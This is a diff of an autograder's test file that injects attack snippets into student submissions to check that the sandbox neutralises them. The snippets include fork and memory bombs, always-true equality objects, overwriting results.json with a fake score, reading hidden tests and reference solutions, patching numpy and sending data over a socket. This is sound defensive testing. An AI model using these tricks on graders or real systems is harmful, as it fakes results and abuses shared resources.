@@ -110,77 +110,70 @@ def test_a_bug_loses_exactly_the_tests_it_breaks(grader, tmp_path, bug):
 
 
 BASE = 'models/_base_network.py'
-SIGMOID = '        out = np.tanh(np.asarray(X) * 0.5)\n'
-RELU = '        out = np.maximum(X, 0)\n'
 
 
 def attacks(out_dir, port):
-    """attack -> (attacked test, {file: [(old, new)]}, words its feedback must contain)."""
+    """attack -> (attacked test, {file: [(function, code put at its top)]}, words its
+    feedback must contain)."""
+    secrets = [str(KIT / 'autograder' / 'hidden_tests.py'), str(KIT / 'autograder' / 'rubric.yaml'),
+               str(SOLUTIONS / 'optimizer' / 'sgd.py'),
+               str(KIT / 'data' / 'mnist' / 't10k-labels-idx1-ubyte.gz')]
     return {
-        'sys.exit': ('activations.sigmoid', {BASE: [(SIGMOID, '        import sys; sys.exit(0)\n')]},
+        'sys.exit': ('activations.sigmoid', {BASE: [('sigmoid', 'import sys; sys.exit(0)')]},
                      'sys.exit(0)'),
-        'os._exit': ('activations.sigmoid', {BASE: [(SIGMOID, '        import os; os._exit(0)\n')]},
+        'os._exit': ('activations.sigmoid', {BASE: [('sigmoid', 'import os; os._exit(0)')]},
                      'without returning a result'),
-        'endless loop': ('activations.relu', {BASE: [(RELU, '        while True: pass\n')]},
-                         'timed out'),
-        'memory bomb': ('activations.relu', {BASE: [(RELU, '        hog = []\n        while True: '
-                                                      'hog.append(bytearray(400 * 2**20))\n')]},
+        'endless loop': ('activations.relu', {BASE: [('ReLU', 'while True: pass')]}, 'timed out'),
+        'memory bomb': ('activations.relu', {BASE: [('ReLU', 'hog = []\nwhile True: '
+                                                            'hog.append(bytearray(400 * 2**20))')]},
                         'MemoryError'),
-        'fork bomb': ('activations.relu', {BASE: [(RELU, '        import os\n        while True:\n'
-                                                    '            try: os.fork()\n'
-                                                    '            except OSError: pass\n')]},
+        'fork bomb': ('activations.relu', {BASE: [('ReLU', 'import os\nwhile True:\n'
+                                                          '    try: os.fork()\n'
+                                                          '    except OSError: pass')]},
                       'timed out'),
-        'output flood': ('activations.relu', {BASE: [(RELU, "        while True: print('{\"score\": "
-                                                       "100}' * 1000)\n")]}, 'timed out'),
+        'output flood': ('activations.relu',
+                         {BASE: [('ReLU', "while True: print('{\"score\": 100}' * 1000)")]},
+                         'timed out'),
         'object equal to everything': (
             'metrics.accuracy',
-            {BASE: [('        acc = float(np.mean(np.argmax(x_pred, axis=1) == np.asarray(y)))\n',
-                     '        class E:\n            def __eq__(s, o): return True\n'
-                     '            def __float__(s): return 1.0\n        acc = E()\n')]},
+            {BASE: [('compute_accuracy', 'class E:\n    def __eq__(s, o): return True\n'
+                                         '    def __float__(s): return 1.0\nreturn E()')]},
             'not numbers'),
         'lying ndarray subclass': (
             'softmax.values',
-            {BASE: [('        prob /= prob.sum(axis=1, keepdims=True)\n',
-                     '        class Liar(np.ndarray):\n            def __eq__(s, o): '
-                     'return np.ones(np.shape(s), bool)\n'
-                     '        prob = np.zeros_like(prob).view(Liar)\n')]},
+            {BASE: [('softmax', 'class Liar(np.ndarray):\n    def __eq__(s, o): '
+                                'return np.ones(np.shape(s), bool)\n'
+                                'return np.zeros(np.shape(scores)).view(Liar)')]},
             'relative error'),
         'writing results.json': (
             'regularization',
             {'optimizer/_base_optimizer.py': [(
-                "        for name, weight in model.weights.items():\n"
-                "            if name.startswith('W'):",
-                "        for p in ['" + str(out_dir / 'results.json') + "', 'results.json',"
-                " '/autograder/results/results.json']:\n"
-                "            try: open(p, 'w').write('{\"score\": 1000}')\n"
-                "            except OSError: pass\n"
-                "        for name, weight in model.weights.items():\n"
-                "            if False:")]},
+                'apply_regularization',
+                f"for p in [{str(out_dir / 'results.json')!r}, 'results.json',\n"
+                "          '/autograder/results/results.json']:\n"
+                "    try: open(p, 'w').write('{\"score\": 1000}')\n"
+                "    except OSError: pass\n"
+                "return")]},
             'relative error'),
         'reading the hidden tests and the reference': (
             'sgd.step',
-            {'optimizer/sgd.py': [('        self.apply_regularization(model)\n',
-                                   '        found = []\n        for p in ' + repr([
-                                       str(KIT / 'autograder' / 'hidden_tests.py'),
-                                       str(KIT / 'autograder' / 'rubric.yaml'),
-                                       str(SOLUTIONS / 'optimizer' / 'sgd.py'),
-                                       str(KIT / 'data' / 'mnist' / 't10k-labels-idx1-ubyte.gz')])
-                                   + ':\n            try: found.append(open(p, "rb").read(40))\n'
-                                   '            except OSError as e: found.append("BLOCKED")\n'
-                                   '        raise RuntimeError(repr(found))\n')]},
+            {'optimizer/sgd.py': [(
+                'update', f"found = []\nfor p in {secrets!r}:\n"
+                          "    try: found.append(open(p, 'rb').read(40))\n"
+                          "    except OSError as e: found.append('BLOCKED')\n"
+                          "raise RuntimeError(repr(found))")]},
             "['BLOCKED', 'BLOCKED', 'BLOCKED', 'BLOCKED']"),
         'patching numpy': (
             'batching.order',
-            {'utils.py': [('    data = np.asarray(data)\n    label = np.asarray(label)\n',
-                           '    np.array_equal = np.allclose = lambda *a, **k: True\n'
-                           '    data = np.asarray(data)[::-1]\n    label = np.asarray(label)\n')]},
+            {'utils.py': [('generate_batched_data',
+                           'np.array_equal = np.allclose = lambda *a, **k: True\n'
+                           'data = np.asarray(data)[::-1]')]},
             'no longer paired'),
         'opening a socket': (
             'data.split',
-            {'utils.py': [("    images, labels = load_mnist('train')\n",
-                           "    import socket\n    socket.create_connection(('127.0.0.1', "
-                           f"{port}), timeout=3).sendall(b'stolen')\n"
-                           "    images, labels = load_mnist('train')\n")]},
+            {'utils.py': [('load_mnist_trainval',
+                           f"import socket\nsocket.create_connection(('127.0.0.1', {port}), "
+                           f"timeout=3).sendall(b'stolen')")]},
             'Network is unreachable'),
     }
 
@@ -227,9 +220,9 @@ def test_an_attack_scores_zero_on_what_it_attacks_and_nothing_else_moves(
         attack_grader, listener, tmp_path, attack):
     port, received = listener
     out = tmp_path / 'out'
-    target, changes, feedback = attacks(out, port)[attack]
+    target, code, feedback = attacks(out, port)[attack]
     control = 'loss.cross_entropy'
-    document, _ = attack_grader.grade(make_submission(tmp_path / 'pkg', changes), out,
+    document, _ = attack_grader.grade(make_submission(tmp_path / 'pkg', attacks=code), out,
                                       only=[target, control])
     check_gradescope_schema(document)
     assert scores(document) == {target: 0.0, control: 3.0}
